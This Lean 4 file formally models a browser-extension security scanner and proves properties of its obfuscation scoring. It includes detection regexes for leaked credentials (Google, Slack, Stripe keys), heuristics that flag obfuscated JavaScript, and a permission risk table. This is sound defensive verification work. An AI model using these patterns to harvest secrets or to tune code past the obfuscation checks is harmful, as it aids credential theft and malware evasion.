def indexedDBMatch : Matcher := litThen "indexedDB".data done

/-- `/connect\s*\(/g`. -/
def connectCallMatch : Matcher :=
  litThen "connect".data (wsStarThen (charThen (· = '(') done))

/-- `/sendMessage\s*\(/g`. -/
def sendMessageMatch : Matcher :=
  litThen "sendMessage".data (wsStarThen (charThen (· = '(') done))

/-- `API_PATTERNS`, in source order. -/
def apiPatterns : List Matcher :=
  [chromeApiMatch, browserApiMatch, fetchCallMatch, xhrMatch, evalCallMatch,
    setTimeoutMatch, localStorageMatch, sessionStorageMatch, indexedDBMatch,
    connectCallMatch, sendMessageMatch]

/-- Fuel-indexed body of the `/g` scan (structural recursion on the fuel so
that concrete scans reduce inside the kernel); the fuel never runs out when
it starts at the list length, because every step consumes at least one
character. -/
def globalMatchesAux (m : Matcher) : ℕ → List Char → List (List Char)
  | 0, _ => []
  | _ + 1, [] => []
  | fuel + 1, c :: rest =>
    match m (c :: rest) with
    | some (n + 1) =>
      ((c :: rest).take (n + 1)) :: globalMatchesAux m fuel (rest.drop n)
    | _ => globalMatchesAux m fuel rest

/-- All matches of a `/g` scan: leftmost, non-overlapping; on a match of
length `n+1` the scan resumes after it, otherwise it advances one position
(no source pattern matches the empty string). -/
def globalMatches (m : Matcher) (s : List Char) : List (List Char) :=
  globalMatchesAux m s.length s

/-- JavaScript `String.prototype.trim` over the same whitespace class. -/
def jsTrim (l : List Char) : List Char :=
  ((l.dropWhile jsSpace).reverse.dropWhile jsSpace).reverse

/-- The keyword alternation of the credential pattern, in source order; a
later alternative is tried when an earlier one matches the keyword but the
rest of the pattern fails (JS alternation backtracking). -/
def secretKeywords : List (List Char) :=
  ["key".data, "token".data, "secret".data, "password".data, "auth".data,
    "api_key".data, "client_id".data, "client_secret".data]

/-- `[\w-]{10,}['"]`: a greedy run of at least 10 word-or-dash characters
followed by a closing quote (exact: quotes are not in `[\w-]`, so no shorter
run can be followed by a quote). -/
def wordDashRunThenQuote : Matcher := fun s =>
  let n := countWhile isWordDash s
  if 10 ≤ n then
    match s.drop n with
    | c :: _ => if isQuote c then some (n + 1) else none
    | [] => none
  else none

/-- Ordered alternation over keywords, each followed by the continuation. -/
def keywordAltThen (kws : List (List Char)) (k : Matcher) : Matcher := fun s =>
  match kws with
  | [] => none
  | kw :: rest =>
    if listStartsWithCI kw s then
      match k (s.drop kw.length) with
      | some m => some (kw.length + m)
      | none => keywordAltThen rest k s
    else keywordAltThen rest k s

/-- `/(?:key|token|...|client_secret)\s*[:=]\s*['"][\w-]{10,}['"]/gi`. -/
def secretAssignMatch : Matcher :=
  keywordAltThen secretKeywords
    (wsStarThen (charThen (fun c => c = ':' || c = '=')
      (wsStarThen (charThen isQuote wordDashRunThenQuote))))

/-- `/AIza[0-9A-Za-z-_]{35}/g` (Google API key). -/
def googleKeyMatch : Matcher :=
  litThen "AIza".data (exactThen isGoogleKeyChar 35 done)

/-- `/xox[bpgr]-[0-9]{12}-[0-9]{12}-[0-9]{12}-[a-z0-9]{32}/g` (Slack). -/
def slackTokenMatch : Matcher :=
  litThen "xox".data
    (charThen (fun c => c = 'b' || c = 'p' || c = 'g' || c = 'r')
      (charThen (· = '-') (exactThen Char.isDigit 12
        (charThen (· = '-') (exactThen Char.isDigit 12
          (charThen (· = '-') (exactThen Char.isDigit 12
            (charThen (· = '-') (exactThen isLowerAlnum 32 done)))))))))

/-- `/sk_live_[0-9a-zA-Z]{24}/g` (Stripe). -/
def stripeKeyMatch : Matcher :=
  litThen "sk_live_".data (exactThen Char.isAlphanum 24 done)

/-- `SECRET_PATTERNS`, in source order. -/
def secretPatterns : List Matcher :=
  [secretAssignMatch, googleKeyMatch, slackTokenMatch, stripeKeyMatch]

/-- Does the pattern match anywhere in the content
(`String.prototype.match` truthiness)? -/
def hasMatch (m : Matcher) (s : List Char) : Bool :=
  anySuffix (fun t => (m t).isSome) s

/-- The dependency library names (`/jquery[\w.-]*\.js/i` and friends). -/
def depKeywords : List (List Char) :=
  ["jquery".data, "react".data, "vue".data, "angular".data, "lodash".data,
    "moment".data, "bootstrap".data]

/-- `[\w.-]*\.js` with full backtracking: either `.js` (case-insensitive)
starts here, or the head is a class character and the tail matches. -/
def depTailMatch : List Char → Bool
  | [] => false
  | c :: r => listStartsWithCI ".js".data (c :: r) || (isWordDotDash c && depTailMatch r)

/-- Does `<kw>[\w.-]*\.js` (case-insensitive) match at this position? -/
def depMatchAt (kw : List Char) (s : List Char) : Bool :=
  listStartsWithCI kw s && depTailMatch (s.drop kw.length)

/-- `fileName.match(/<kw>[\w.-]*\.js/i)` truthiness. -/
def fileNameMatchesDep (kw : List Char) (name : String) : Bool :=
  anySuffix (depMatchAt kw) name.data

/-- JavaScript `String.prototype.split` on a separator character
(`"".split` gives `[""]`). -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: r =>
    if c = sep then [] :: splitOnChar sep r
    else
      match splitOnChar sep r with
      | [] => [[c]]
      | h :: t => (c :: h) :: t

/-- `fileName.split('/').pop() || fileName`: the basename after the last
slash, falling back to the whole name when that segment is empty (JS `""`
is falsy). -/
def basenameOr (name : String) : String :=
  match (splitOnChar '/' name.data).getLast? with
  | some l => if l.isEmpty then name else String.mk l
  | none => name

/-- One archive entry, already read as text by the external archive layer. -/
structure Entry where
  name : String
  content : String
deriving DecidableEq, Repr

/-- Suffix test (`String.prototype.endsWith`). -/
def listEndsWith (suf s : List Char) : Bool :=
  listStartsWith suf.reverse s.reverse

/-- Suffix test on `String`s. -/
def strEndsWith (suf s : String) : Bool := listEndsWith suf.data s.data

/-- The extension filter of the scan loop (`.js`, `.html`, `.json`). -/
def scanExt (n : String) : Bool :=
  strEndsWith ".js" n || strEndsWith ".html" n || strEndsWith ".json" n

/-- JS `Set.add` into an insertion-ordered list. -/
def insertUniq (l : List String) (x : String) : List String :=
  if x ∈ l then l else l ++ [x]

/-- The accumulated `apiCallsSet` (as `Array.from` returns it): per scanned
file, per pattern in order, every trimmed match inserted once. -/
def apiCallsOf (files : List Entry) : List String :=
  files.foldl
    (fun acc f =>
      if scanExt f.name then
        apiPatterns.foldl
          (fun acc m =>
            (globalMatches m f.content.data).foldl
              (fun acc mm => insertUniq acc (String.mk (jsTrim mm))) acc)
          acc
      else acc)
    []

/-- The accumulated `secretsSet`: one file-level marker per scanned file in
which some secret pattern matches. -/
def secretsOf (files : List Entry) : List String :=
  files.foldl
    (fun acc f =>
      if scanExt f.name && secretPatterns.any (fun m => hasMatch m f.content.data)
      then insertUniq acc ("Potential secret found in " ++ f.name)
      else acc)
    []

/-- The accumulated `dependenciesSet`: base filenames of scanned entries
whose names match a library fingerprint. -/
def dependenciesOf (files : List Entry) : List String :=
  files.foldl
    (fun acc f =>
      if scanExt f.name then
        depKeywords.foldl
          (fun acc kw =>
            if fileNameMatchesDep kw f.name then insertUniq acc (basenameOr f.name)
            else acc)
          acc
      else acc)
    []

/-! ## Obfuscation signals (computed only over `.js` entries). -/

/-- `calculateEntropy`: Shannon entropy (base 2) over raw character
frequencies; 0 for the empty string. -/
noncomputable def calculateEntropy (s : List Char) : ℝ :=
  if s.length = 0 then 0
  else -((s.dedup).map (fun c =>
      ((s.count c : ℝ) / (s.length : ℝ)) *
        Real.logb 2 ((s.count c : ℝ) / (s.length : ℝ)))).sum

/-- Per-file long-line flag: more than 10% of the lines exceed 500
characters. -/
def longLineFlag (content : List Char) : Bool :=
  let lines := splitOnChar '\n' content
  decide (0 < lines.length) &&
    decide ((1 : ℚ) / 10 <
      (((lines.filter (fun l => 500 < l.length)).length : ℚ) / (lines.length : ℚ)))

/-- `/[a-zA-Z_$][a-zA-Z0-9_$]*/g` identifier matcher. -/
def identMatcher : Matcher := fun s =>
  match s with
  | c :: r => if isIdentStart c then some (1 + countWhile isIdentChar r) else none
  | [] => none

/-- A suspicious identifier: single character, or `_0x` followed by at least
one lowercase-hex character (`/^_0x[a-f0-9]+/` truthiness). -/
def suspiciousIdent (id : List Char) : Bool :=
  id.length = 1 ||
    (listStartsWith "_0x".data id &&
      (match id.drop 3 with
       | c :: _ => isHexLower c
       | [] => false))

/-- Per-file suspicious-identifier flag: only when the file has more than
100 identifiers, and more than 30% of them are suspicious. -/
def suspiciousFlag (content : List Char) : Bool :=
  let ids := globalMatches identMatcher content
  if 100 < ids.length then
    decide ((3 : ℚ) / 10 <
      (((ids.filter suspiciousIdent).length : ℚ) / (ids.length : ℚ)))
  else false

/-- `\s*=\s*\[` after the hex counter of the obfuscator-array pattern. -/
def eqThenBracket (u : List Char) : Bool :=
  match u.drop (countWhile jsSpace u) with
  | c :: r =>
    c = '=' &&
      (match r.drop (countWhile jsSpace r) with
       | d :: _ => d = '['
       | [] => false)
  | [] => false

/-- `/_0x[a-f0-9]{4,6}\s*=\s*\[/` at this position, with the `{4,6}`
counter's backtracking searched explicitly. -/
def obfsArrayAt (s : List Char) : Bool :=
  listStartsWith "_0x".data s &&
    [6, 5, 4].any (fun k =>
      decide (k ≤ countWhile isHexLower (s.drop 3)) &&
        eqThenBracket ((s.drop 3).drop k))

/-- Per-file known-obfuscator marker: the literal `javascript-obfuscator` or
the obfuscator-array shape anywhere in the file. -/
def fileMarker (content : List Char) : Bool :=
  containsSub "javascript-obfuscator".data content || anySuffix obfsArrayAt content

/-- The `.js` entries of the archive, in scan order. -/
def jsEntries (files : List Entry) : List Entry :=
  files.filter (fun f => strEndsWith ".js" f.name)

/-- `jsFileCount`. -/
def jsFileCount (files : List Entry) : ℕ := (jsEntries files).length

/-- `totalEntropy`: sum of per-file entropies. -/
noncomputable def totalEntropy (files : List Entry) : ℝ :=
  ((jsEntries files).map (fun f => calculateEntropy f.content.data)).sum

/-- `longLineFiles`. -/
def longLineFiles (files : List Entry) : ℕ :=
  ((jsEntries files).filter (fun f => longLineFlag f.content.data)).length

/-- `suspiciousIdentifierFiles`. -/
def suspiciousFiles (files : List Entry) : ℕ :=
  ((jsEntries files).filter (fun f => suspiciousFlag f.content.data)).length

/-- The sticky `knownObfuscatorFound` flag. -/
def markerFound (files : List Entry) : Bool :=
  (jsEntries files).any (fun f => fileMarker f.content.data)

/-- `avgEntropy`: the average entropy over `.js` files, 0 when there are
none. -/
noncomputable def avgEntropy (files : List Entry) : ℝ :=
  if 0 < jsFileCount files then totalEntropy files / (jsFileCount files : ℝ)
  else 0

/-- Signal 1: average entropy above 5.5. -/
def highEntropySignal (files : List Entry) : Prop := 5.5 < avgEntropy files

/-- Signal 2: more than 20% of `.js` files flagged for long lines. -/
def manyLongLines (files : List Entry) : Prop :=
  0 < jsFileCount files ∧
    (1 : ℚ) / 5 < (longLineFiles files : ℚ) / (jsFileCount files : ℚ)

/-- Signal 3: more than 20% of `.js` files flagged for suspicious
identifiers. -/
def manySuspicious (files : List Entry) : Prop :=
  0 < jsFileCount files ∧
    (1 : ℚ) / 5 < (suspiciousFiles files : ℚ) / (jsFileCount files : ℚ)

open Classical in
/-- The heuristic signal count (0–3, excluding the sticky marker). -/
noncomputable def signalCount (files : List Entry) : ℕ :=
  (if highEntropySignal files then 1 else 0) +
    (if manyLongLines files then 1 else 0) +
    (if manySuspicious files then 1 else 0)

open Classical in
/-- `isObfuscated = knownObfuscatorFound || signals >= 2`. -/
noncomputable def isObfuscatedOf (files : List Entry) : Bool :=
  markerFound files || decide (2 ≤ signalCount files)

open Classical in
/-- `obfuscationScore = marker ? 10 : signals === 1 ? 5 : signals >= 2 ? 10 : 0`. -/
noncomputable def obfuscationScoreOf (files : List Entry) : ℕ :=
  if markerFound files then 10
  else if signalCount files = 1 then 5
  else if 2 ≤ signalCount files then 10
  else 0

/-- The result record of `analyzeSourceCode`. -/
structure ScanResult where
  apiCalls : List String
  secrets : List String
  dependencies : List String
  isObfuscated : Bool
  obfuscationScore : ℕ

/-- `analyzeSourceCode`: one pass over the scanned entries, accumulating the
three deduplicated sets and the obfuscation outputs. -/
noncomputable def analyzeSourceCode (files : List Entry) : ScanResult :=
  ⟨apiCallsOf files, secretsOf files, dependenciesOf files,
    isObfuscatedOf files, obfuscationScoreOf files⟩

/-! Spec-side obfuscation signals for claim C7, written from the claim's
words: average entropy above 5.5, long-line-flagged-file ratio above 0.2,
suspicious-identifier-flagged-file ratio above 0.2 (with zero `.js` files
the ratios and the average are vacuously 0). -/

/-- Spec signal 1: average entropy over `.js` files exceeds 5.5. -/
def specSignalA (files : List Entry) : Prop :=
  5.5 < totalEntropy files / (jsFileCount files : ℝ)

/-- Spec signal 2: long-line-flagged-file ratio exceeds 0.2. -/
def specSignalB (files : List Entry) : Prop :=
  (1 : ℚ) / 5 < (longLineFiles files : ℚ) / (jsFileCount files : ℚ)

/-- Spec signal 3: suspicious-identifier-flagged-file ratio exceeds 0.2. -/
def specSignalC (files : List Entry) : Prop :=
  (1 : ℚ) / 5 < (suspiciousFiles files : ℚ) / (jsFileCount files : ℚ)

/-- At least two of the three heuristic signals hold. -/
def specTwoOfThree (files : List Entry) : Prop :=
  (specSignalA files ∧ specSignalB files) ∨
    (specSignalA files ∧ specSignalC files) ∨
    (specSignalB files ∧ specSignalC files)

/-- Exactly one of the three heuristic signals holds. -/
def specExactlyOne (files : List Entry) : Prop :=
  (specSignalA files ∧ ¬specSignalB files ∧ ¬specSignalC files) ∨
    (¬specSignalA files ∧ specSignalB files ∧ ¬specSignalC files) ∨
    (¬specSignalA files ∧ ¬specSignalB files ∧ specSignalC files)

/-- The code-side signal (guarded average) coincides with the spec-side one
(plain ratio, 0/0 = 0). -/
theorem sigA_iff (files : List Entry) :
    highEntropySignal files ↔ specSignalA files := by
  unfold highEntropySignal specSignalA avgEntropy
  by_cases h : 0 < jsFileCount files
  · rw [if_pos h]
  · rw [if_neg h]
    have h0 : jsFileCount files = 0 := by omega
    rw [h0]
    norm_num

/-- Long-line signal: the `jsFileCount > 0` guard matches the ratio being 0
at zero files. -/
theorem sigB_iff (files : List Entry) :
    manyLongLines files ↔ specSignalB files := by
  unfold manyLongLines specSignalB
  by_cases h : 0 < jsFileCount files
  · simp [h]
  · have h0 : jsFileCount files = 0 := by omega
    rw [h0]
    norm_num

/-- Suspicious-identifier signal, same guard argument. -/
theorem sigC_iff (files : List Entry) :
    manySuspicious files ↔ specSignalC files := by
  unfold manySuspicious specSignalC
  by_cases h : 0 < jsFileCount files
  · simp [h]
  · have h0 : jsFileCount files = 0 := by omega
    rw [h0]
    norm_num

/-- The signal count is at least 2 exactly when two of the three spec
signals hold. -/
theorem signalCount_two_iff (files : List Entry) :
    2 ≤ signalCount files ↔ specTwoOfThree files := by
  unfold signalCount specTwoOfThree
  rw [← sigA_iff files, ← sigB_iff files, ← sigC_iff files]
  by_cases a : highEntropySignal files <;>
    by_cases b : manyLongLines files <;>
    by_cases c : manySuspicious files <;>
    simp [a, b, c]

/-- The signal count is 1 exactly when exactly one spec signal holds. -/
theorem signalCount_one_iff (files : List Entry) :
    signalCount files = 1 ↔ specExactlyOne files := by
  unfold signalCount specExactlyOne
  rw [← sigA_iff files, ← sigB_iff files, ← sigC_iff files]
  by_cases a : highEntropySignal files <;>
    by_cases b : manyLongLines files <;>
    by_cases c : manySuspicious files <;>
    simp [a, b, c]

/-- The signal count is bounded by 3. -/
theorem signalCount_le_three (files : List Entry) : signalCount files ≤ 3 := by
  unfold signalCount
  split_ifs <;> norm_num

/-- The obfuscation score only takes the values 0, 5 and 10 (shared helper,
also used to bound the risk total of concrete runs). -/
theorem obfuscationScore_cases (files : List Entry) :
    obfuscationScoreOf files = 0 ∨ obfuscationScoreOf files = 5 ∨
      obfuscationScoreOf files = 10 := by
  unfold obfuscationScoreOf
  split_ifs <;> simp

/-- C7. The scanner's obfuscation outputs: `isObfuscated` holds iff the
sticky marker was found or at least two of the three heuristic signals hold;
`obfuscationScore` is 10 under the marker, else 5 for exactly one signal,
else 10 for two or more, else 0 — hence always in {0, 5, 10}; and an archive
with no `.js` files reports `false` and 0. -/
theorem c7_obfuscation (files : List Entry) :
    ((analyzeSourceCode files).isObfuscated = true ↔
      markerFound files = true ∨ specTwoOfThree files) ∧
    (markerFound files = true →
      (analyzeSourceCode files).obfuscationScore = 10) ∧
    (markerFound files = false → specExactlyOne files →
      (analyzeSourceCode files).obfuscationScore = 5) ∧
    (markerFound files = false → specTwoOfThree files →
      (analyzeSourceCode files).obfuscationScore = 10) ∧
    (markerFound files = false → ¬specExactlyOne files →
      ¬specTwoOfThree files → (analyzeSourceCode files).obfuscationScore = 0) ∧
    ((analyzeSourceCode files).obfuscationScore = 0 ∨
      (analyzeSourceCode files).obfuscationScore = 5 ∨
      (analyzeSourceCode files).obfuscationScore = 10) ∧
    (jsEntries files = [] →
      (analyzeSourceCode files).isObfuscated = false ∧
      (analyzeSourceCode files).obfuscationScore = 0) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · show isObfuscatedOf files = true ↔ _
    unfold isObfuscatedOf
    by_cases m : markerFound files = true
    · simp [m]
    · simp only [m, Bool.false_or, false_or, decide_eq_true_iff,
        Bool.or_eq_true]
      simp [signalCount_two_iff files, m]
  · intro m
    show obfuscationScoreOf files = 10
    unfold obfuscationScoreOf
    rw [if_pos m]
  · intro m hone
    show obfuscationScoreOf files = 5
    unfold obfuscationScoreOf
    rw [if_neg (by simp [m]), if_pos ((signalCount_one_iff files).mpr hone)]
  · intro m htwo
    show obfuscationScoreOf files = 10
    unfold obfuscationScoreOf
    have h2 : 2 ≤ signalCount files := (signalCount_two_iff files).mpr htwo
    rw [if_neg (by simp [m]), if_neg (by omega), if_pos h2]
  · intro m hone htwo
    show obfuscationScoreOf files = 0
    unfold obfuscationScoreOf
    have h1 : signalCount files ≠ 1 := fun h =>
      hone ((signalCount_one_iff files).mp h)
    have h2 : ¬ 2 ≤ signalCount files := fun h =>
      htwo ((signalCount_two_iff files).mp h)
    rw [if_neg (by simp [m]), if_neg h1, if_neg h2]
  · exact obfuscationScore_cases files
  · intro hj
    have hcount : jsFileCount files = 0 := by
      unfold jsFileCount
      rw [hj]
      rfl
    have hmark : markerFound files = false := by
      unfold markerFound
      rw [hj]
      rfl
    have hsigA : ¬ highEntropySignal files := by
      unfold highEntropySignal avgEntropy
      rw [if_neg (by omega)]
      norm_num
    have hsigB : ¬ manyLongLines files := by
      unfold manyLongLines
      rw [hcount]
      simp
    have hsigC : ¬ manySuspicious files := by
      unfold manySuspicious
      rw [hcount]
      simp
    have hsc : signalCount files = 0 := by
      unfold signalCount
      simp [hsigA, hsigB, hsigC]
    constructor
    · show isObfuscatedOf files = false
      unfold isObfuscatedOf
      rw [hmark, hsc]
      simp
    · show obfuscationScoreOf files = 0
      unfold obfuscationScoreOf
      rw [hsc, if_neg (by simp [hmark])]
      norm_num

/-- Witness for C7's zero-`.js` clause: an archive holding only a manifest
reports no obfuscation. -/
theorem c7_obfuscation_witness :
    (analyzeSourceCode [⟨"manifest.json", "\x7b\x7d"⟩]).isObfuscated = false ∧
    (analyzeSourceCode [⟨"manifest.json", "\x7b\x7d"⟩]).obfuscationScore = 0 :=
  (c7_obfuscation [⟨"manifest.json", "\x7b\x7d"⟩]).2.2.2.2.2.2 (by decide)

/-! ## Manifest resolution, permission classifier, vulnerability matcher and
the `analyzeExtension` pipeline (after the external ZIP layer has produced
the entry list). -/

/-- The parsed `manifest.json` fields the engine reads. `JSON.parse` itself
is an external collaborator; a field is `none` when absent. -/
structure Manifest where
  name : Option String
  version : Option String
  manifest_version : Option ℤ
  permissions : Option (List String)
  host_permissions : Option (List String)
  icons : Option (List (String × String))
  default_locale : Option String
deriving DecidableEq, Repr

/-- JS `string || default`: the empty string is falsy. -/
def jsOrStr (o : Option String) (d : String) : String :=
  match o with
  | some s => if s.data.isEmpty then d else s
  | none => d

/-- JS `number || default`: 0 is falsy (`manifest.manifest_version || 2`). -/
def jsOrInt (o : Option ℤ) (d : ℤ) : ℤ :=
  match o with
  | some v => if v = 0 then d else v
  | none => d

/-- `PERMISSION_MAPPING`, verbatim from the source (apostrophes written as
`\x27`). -/
def permissionMapping : List (String × Risk × String) :=
  [("activeTab", .Low, "Access the current tab when the user interacts with the extension."),
   ("alarms", .Low, "Schedule code to run at specific times."),
   ("bookmarks", .Medium, "Read and modify browser bookmarks."),
   ("browsingData", .High, "Clear browsing data like cookies and history."),
   ("clipboardRead", .High, "Read data from the clipboard."),
   ("clipboardWrite", .Medium, "Write data to the clipboard."),
   ("cookies", .High, "Access and modify cookies for any website."),
   ("debugger", .Critical, "Use the browser debugger protocol, which allows full control over the browser."),
   ("desktopCapture", .High, "Capture screenshots of the desktop."),
   ("downloads", .Medium, "Manage browser downloads."),
   ("geolocation", .Medium, "Access the user\x27s physical location."),
   ("history", .High, "Read and modify the browser\x27s history."),
   ("identity", .Medium, "Access the user\x27s Google account identity."),
   ("management", .High, "Manage other installed extensions and apps."),
   ("notifications", .Low, "Display desktop notifications."),
   ("proxy", .High, "Manage the browser\x27s proxy settings."),
   ("sessions", .High, "Enumerate and restore open tabs and windows."),
   ("storage", .Low, "Store and retrieve data locally."),
   ("tabGroups", .Low, "Manage tab groups."),
   ("tabs", .Medium, "Access tab metadata like URL and title."),
   ("topSites", .Low, "Access the list of the user\x27s most visited websites."),
   ("webNavigation", .Medium, "Receive notifications about the status of navigation requests."),
   ("webRequest", .High, "Intercept, block, or modify network requests."),
   ("webRequestBlocking", .High, "Block or modify network requests (requires webRequest)."),
   ("<all_urls>", .Critical, "Full access to all websites the user visits.")]

/-- `[...new Set([...permissions, ...hostPermissions])]`: first-seen order. -/
def dedupKeepFirst (l : List String) : List String :=
  l.foldl insertUniq []

/-- Classify a single permission: exact table match, else host-pattern test
(`://` substring or `<all_urls>`), else Low. -/
def classifyPermission (p : String) : PermissionInfo :=
  match permissionMapping.find? (fun e => e.1 = p) with
  | some e => ⟨p, e.2.1, e.2.2⟩
  | none =>
    if containsSub "://".data p.data || p = "<all_urls>" then
      ⟨p, if p = "<all_urls>" then .Critical else .High,
        "Access to data on " ++
          (if p = "<all_urls>" then "all websites" else p) ++ "."⟩
    else ⟨p, .Low, "Standard extension permission."⟩

/-- `analyzePermissions`: de-duplicated union, one finding per permission. -/
def analyzePermissions (permissions hostPermissions : List String) :
    List PermissionInfo :=
  (dedupKeepFirst (permissions ++ hostPermissions)).map classifyPermission

/-- The static jQuery vulnerability (CVSS 6.1 = 61/10). -/
def jqueryVuln : Vulnerability :=
  ⟨"CVE-2020-11022", .Medium,
    "Regex in jQuery.htmlPrefilter potentially leads to XSS.", some (mkRat 61 10)⟩

/-- The static lodash vulnerability (CVSS 7.4 = 74/10). -/
def lodashVuln : Vulnerability :=
  ⟨"CVE-2020-8203", .High,
    "Prototype pollution in lodash via merge and zipObjectDeep.", some (mkRat 74 10)⟩

/-- `Map.set` keyed by CVE id: replaces in place, keeps first-insertion
order, appends when new. -/
def mapSet (m : List Vulnerability) (v : Vulnerability) : List Vulnerability :=
  if m.any (fun w => w.id = v.id) then m.map (fun w => if w.id = v.id then v else w)
  else m ++ [v]

/-- `dep.toLowerCase()`. -/
def toLowerList (s : String) : List Char := s.data.map Char.toLower

/-- `detectVulnerabilities`: substring-match each dependency name against the
static table, deduplicated by CVE id through the map. -/
def detectVulnerabilities (deps : List String) : List Vulnerability :=
  deps.foldl
    (fun m d =>
      let m1 := if containsSub "jquery".data (toLowerList d) then mapSet m jqueryVuln else m
      if containsSub "lodash".data (toLowerList d) then mapSet m1 lodashVuln else m1)
    []

/-- The `cvssScore` fold of the result record:
`vulnerabilities.reduce((max, v) => Math.max(max, v.score || 0), 0)`. -/
def reduceCvss (vs : List Vulnerability) : ℚ :=
  vs.foldl (fun a v => max a (v.score.getD 0)) 0

/-- `zip.file(path)` on the entry list. -/
def findEntry (files : List Entry) (n : String) : Option String :=
  (files.find? (fun f => f.name = n)).map (·.content)

/-- JS `String.prototype.replace` with a string pattern: first occurrence
only. -/
def replFirst (pat repl : List Char) : List Char → List Char
  | [] => if pat.isEmpty then repl else []
  | c :: r =>
    if listStartsWith pat (c :: r) then repl ++ (c :: r).drop pat.length
    else c :: replFirst pat repl r

/-- `replFirst` on `String`s. -/
def strReplFirst (s pat repl : String) : String :=
  String.mk (replFirst pat.data repl.data s.data)

/-- `resolveLocaleString`: try the default locale then `en`, `en_US`,
`en_GB`, then every `_locales/*/messages.json` entry; fall back to the
original key. `localeMsg content key` models
`JSON.parse(content)[key]?.message` (`none` on parse failure or a missing
key, the caught branch). Never an error. -/
def resolveLocaleString (files : List Entry)
    (localeMsg : String → String → Option String)
    (defaultLocale : Option String) (key : String) : String :=
  let messageKey := strReplFirst (strReplFirst key "__MSG_" "") "__" ""
  let locales := [jsOrStr defaultLocale "en", "en", "en_US", "en_GB"]
  match (locales.filterMap (fun loc =>
      (findEntry files ("_locales/" ++ loc ++ "/messages.json")).bind
        (fun c => localeMsg c messageKey))).head? with
  | some m => m
  | none =>
    match ((files.filter (fun f =>
        listStartsWith "_locales/".data f.name.data &&
          listEndsWith "messages.json".data f.name.data)).filterMap
        (fun f => localeMsg f.content messageKey)).head? with
    | some m => m
    | none => key

/-- `icons['48'] || icons['128'] || icons['16']` lookup step. -/
def iconLookup (icons : List (String × String)) (k : String) : Option String :=
  (icons.find? (fun e => e.1 = k)).map (·.2)

/-- JS `||` over optional strings (empty string falsy). -/
def jsOrS : Option String → Option String → Option String
  | some s, b => if s.data.isEmpty then b else some s
  | none, b => b

/-- The preference chain `icons['48'] || icons['128'] || icons['16']`. -/
def iconChain (icons : List (String × String)) : Option String :=
  jsOrS (iconLookup icons "48")
    (jsOrS (iconLookup icons "128") (iconLookup icons "16"))

/-- Icon resolution: preferred size keys, entry lookup, data URI with MIME
from the `.png` suffix; every failure yields `none`, never an error.
`readBase64` is the external base64 encoder of the archive layer. -/
def resolveIcon (files : List Entry) (readBase64 : String → String)
    (m : Manifest) : Option String :=
  match m.icons with
  | none => none
  | some icons =>
    match iconChain icons with
    | some p =>
      if p.data.isEmpty then none
      else
        match findEntry files p with
        | some content =>
          some ("data:" ++
            (if strEndsWith ".png" p then "image/png" else "image/jpeg") ++
            ";base64," ++ readBase64 content)
        | none => none
    | none => none

/-- The fatal error kinds of the core (archive-parse failures happen in the
external ZIP layer before this point). -/
inductive AnalysisError where
  | manifestNotFound
  | manifestParseError
deriving DecidableEq, Repr

/-- The `AnalysisResult` aggregate of the source (the explanatory equation
string is omitted; no claim concerns it). -/
structure AnalysisResult where
  name : String
  version : String
  icon : Option String
  manifestVersion : ℤ
  permissions : List PermissionInfo
  apiCalls : List String
  secrets : List String
  dependencies : List String
  vulnerabilities : List Vulnerability
  cvssScore : ℚ
  riskLevel : Risk
  riskScore : ℤ
  isObfuscated : Bool
  obfuscationScore : ℕ
  reputation : Option ReputationData
  reputationScore : Option ℤ

/-- `analyzeExtension` after the container decode and ZIP load: resolve the
manifest (fatal when missing or unparseable), the name, the icon, classify
permissions, scan sources, match vulnerabilities, score. The oracles model
the declared external collaborators: `parseManifest` is `JSON.parse`,
`localeMsg` the locale-message lookup, `readBase64` the archive's base64
read, `parseMonths` the `Date` subtraction feeding the reputation recency
term. -/
noncomputable def mkResult (files : List Entry)
    (localeMsg : String → String → Option String)
    (readBase64 : String → String)
    (parseMonths : String → Option ℚ)
    (rep : Option ReputationData) (manifest : Manifest) : AnalysisResult :=
  let name0 := jsOrStr manifest.name "Unknown"
  let name := if listStartsWith "__MSG_".data name0.data
    then resolveLocaleString files localeMsg manifest.default_locale name0
    else name0
  let permissions := analyzePermissions (manifest.permissions.getD [])
    (manifest.host_permissions.getD [])
  let manifestVersion := jsOrInt manifest.manifest_version 2
  let scan := analyzeSourceCode files
  let vulns := detectVulnerabilities scan.dependencies
  let risk := calculateDetailedRisk permissions vulns manifestVersion
    (scan.obfuscationScore : ℚ)
  { name := name
    version := jsOrStr manifest.version "0.0.0"
    icon := resolveIcon files readBase64 manifest
    manifestVersion := manifestVersion
    permissions := permissions
    apiCalls := scan.apiCalls
    secrets := scan.secrets
    dependencies := scan.dependencies
    vulnerabilities := vulns
    cvssScore := reduceCvss vulns
    riskLevel := risk.level
    riskScore := risk.score
    isObfuscated := scan.isObfuscated
    obfuscationScore := scan.obfuscationScore
    reputation := rep
    reputationScore := rep.map
      (fun r => calculateReputationScore r (parseMonths r.lastUpdated)) }

noncomputable def analyzeExtensionCore (files : List Entry)
    (parseManifest : String → Option Manifest)
    (localeMsg : String → String → Option String)
    (readBase64 : String → String)
    (parseMonths : String → Option ℚ)
    (rep : Option ReputationData) : Except AnalysisError AnalysisResult :=
  match findEntry files "manifest.json" with
  | none => .error .manifestNotFound
  | some mc =>
    match parseManifest mc with
    | none => .error .manifestParseError
    | some manifest =>
      .ok (mkResult files localeMsg readBase64 parseMonths rep manifest)

/-- Equation: missing `manifest.json` aborts with `manifestNotFound`. -/
theorem core_err_notFound {files pm lm b64 mo rep}
    (hf : findEntry files "manifest.json" = none) :
    analyzeExtensionCore files pm lm b64 mo rep = .error .manifestNotFound := by
  unfold analyzeExtensionCore
  simp only [hf]

/-- Equation: an unparseable manifest aborts with `manifestParseError`. -/
theorem core_err_parse {files pm lm b64 mo rep mc}
    (hf : findEntry files "manifest.json" = some mc) (hp : pm mc = none) :
    analyzeExtensionCore files pm lm b64 mo rep = .error .manifestParseError := by
  unfold analyzeExtensionCore
  simp only [hf, hp]

/-- Equation: a found, parsed manifest yields the complete result record. -/
theorem core_ok {files pm lm b64 mo rep mc m}
    (hf : findEntry files "manifest.json" = some mc) (hp : pm mc = some m) :
    analyzeExtensionCore files pm lm b64 mo rep =
      .ok (mkResult files lm b64 mo rep m) := by
  unfold analyzeExtensionCore
  simp only [hf, hp]

/-- Did the analysis succeed? -/
def isSuccess : Except AnalysisError AnalysisResult → Bool
  | .ok _ => true
  | .error _ => false

